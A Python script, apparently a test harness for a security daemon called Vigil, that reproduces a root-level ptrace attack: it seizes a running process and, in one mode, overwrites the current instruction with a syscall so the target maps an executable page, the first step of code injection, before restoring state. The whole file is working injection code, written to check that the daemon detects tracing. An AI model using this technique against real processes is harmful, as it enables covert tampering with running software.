#!/usr/bin/env python3
"""An attacker with root tracing a running Vigil daemon (x86_64), as issue 12 describes:
the kernel lets root (CAP_SYS_PTRACE) do it even to a non-dumpable process, so Tier B
can only see it.

Usage: ptrace_attack.py PID seize SECONDS   attach (PTRACE_SEIZE, the process keeps
                                            running) and stay attached SECONDS
       ptrace_attack.py PID inject-exec     stop the thread, make it call
                                            mmap(NULL, 4096, PROT_READ|PROT_EXEC,
                                            MAP_PRIVATE|MAP_ANONYMOUS) (the first step of
                                            injecting code), put everything back, detach
Prints what it did (the mapping's address for inject-exec); exits 1 when a step fails.
"""
import ctypes
import os
import sys
import time

libc = ctypes.CDLL(None, use_errno=True)
libc.ptrace.restype = ctypes.c_long
libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_int, ctypes.c_void_p, ctypes.c_void_p]
PTRACE_PEEKTEXT, PTRACE_POKETEXT, PTRACE_GETREGS, PTRACE_SETREGS = 1, 4, 12, 13
PTRACE_SINGLESTEP, PTRACE_DETACH, PTRACE_SEIZE, PTRACE_INTERRUPT = 9, 17, 0x4206, 0x4207


class Regs(ctypes.Structure):
    _fields_ = [(n, ctypes.c_ulonglong) for n in (
        "r15 r14 r13 r12 rbp rbx r11 r10 r9 r8 rax rcx rdx rsi rdi orig_rax rip cs eflags rsp ss "
        "fs_base gs_base ds es fs gs").split()]


def call(req, pid, addr=0, data=0, what=""):
    ctypes.set_errno(0)
    r = libc.ptrace(req, pid, ctypes.c_void_p(addr), ctypes.c_void_p(data))
    e = ctypes.get_errno()
    if r == -1 and e != 0:
        sys.exit(f"ptrace {what or req}: {os.strerror(e)} (errno {e})")
    return r


def wait_stopped(pid):
    _, status = os.waitpid(pid, os.__dict__.get("WALL", 0x40000000))
    if not os.WIFSTOPPED(status):
        sys.exit(f"thread {pid} did not stop: status {status:#x}")


def main():
    pid, action = int(sys.argv[1]), sys.argv[2]
    call(PTRACE_SEIZE, pid, what="seize")
    if action == "seize":
        print(f"attached to {pid}", flush=True)
        time.sleep(float(sys.argv[3]))
        # A seized, running thread must be stopped before it can be detached.
        call(PTRACE_INTERRUPT, pid, what="interrupt")
        wait_stopped(pid)
        call(PTRACE_DETACH, pid, what="detach")
        return
    if action != "inject-exec":
        sys.exit(f"unknown action {action}")
    call(PTRACE_INTERRUPT, pid, what="interrupt")
    wait_stopped(pid)
    saved = Regs()
    call(PTRACE_GETREGS, pid, 0, ctypes.addressof(saved), "getregs")
    word = call(PTRACE_PEEKTEXT, pid, saved.rip, 0, "peek") & 0xFFFFFFFFFFFFFFFF
    # `syscall` (0f 05) at the current instruction, the rest of the word unchanged.
    patched = (word & ~0xFFFF) | 0x050F
    call(PTRACE_POKETEXT, pid, saved.rip, patched, "poke")
    regs = Regs.from_buffer_copy(saved)
    regs.rax, regs.orig_rax = 9, 0xFFFFFFFFFFFFFFFF  # mmap; no syscall restart on resume
    regs.rdi, regs.rsi, regs.rdx, regs.r10, regs.r8, regs.r9 = 0, 4096, 0x5, 0x22, 0xFFFFFFFFFFFFFFFF, 0
    call(PTRACE_SETREGS, pid, 0, ctypes.addressof(regs), "setregs")
    call(PTRACE_SINGLESTEP, pid, what="singlestep")
    wait_stopped(pid)
    after = Regs()
    call(PTRACE_GETREGS, pid, 0, ctypes.addressof(after), "getregs")
    call(PTRACE_POKETEXT, pid, saved.rip, word, "restore text")
    call(PTRACE_SETREGS, pid, 0, ctypes.addressof(saved), "restore regs")
    call(PTRACE_DETACH, pid, what="detach")
    if after.rax > 0xFFFFFFFFFFFFF000:
        sys.exit(f"the injected mmap failed: errno {(-after.rax) & 0xFFFF}")
    print(f"{after.rax:#x}")


main()
